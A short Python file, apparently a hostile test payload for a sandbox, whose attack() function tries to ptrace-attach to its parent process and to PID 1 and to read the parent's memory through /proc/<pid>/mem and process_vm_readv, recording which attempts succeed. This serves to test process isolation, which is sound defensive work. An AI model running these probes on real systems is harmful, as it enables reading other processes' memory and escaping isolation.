# ruff: noqa  (hostile payload: data for the sandbox, not project code)
"""ptrace the parent (the zygote) and read its memory through /proc and process_vm_readv."""

import ctypes
import os

PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_SEIZE = 0, 16, 0x4206


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    outcomes = {}
    for name, request, pid in (
        ("attach_parent", PTRACE_ATTACH, os.getppid()),
        ("seize_parent", PTRACE_SEIZE, os.getppid()),
        ("attach_init", PTRACE_ATTACH, 1),
        ("traceme", PTRACE_TRACEME, 0),
    ):
        result = libc.ptrace(request, pid, None, None)
        outcomes[name] = "ok" if result == 0 else os.strerror(ctypes.get_errno())
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb") as handle:
            handle.read(16)
        outcomes["parent_mem"] = "ok"
    except OSError as exc:
        outcomes["parent_mem"] = type(exc).__name__
    buffer = ctypes.create_string_buffer(16)

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    local = IoVec(ctypes.addressof(buffer), 16)
    remote = IoVec(0x400000, 16)
    got = libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    outcomes["process_vm_readv"] = "ok" if got > 0 else os.strerror(ctypes.get_errno())
    return outcomes
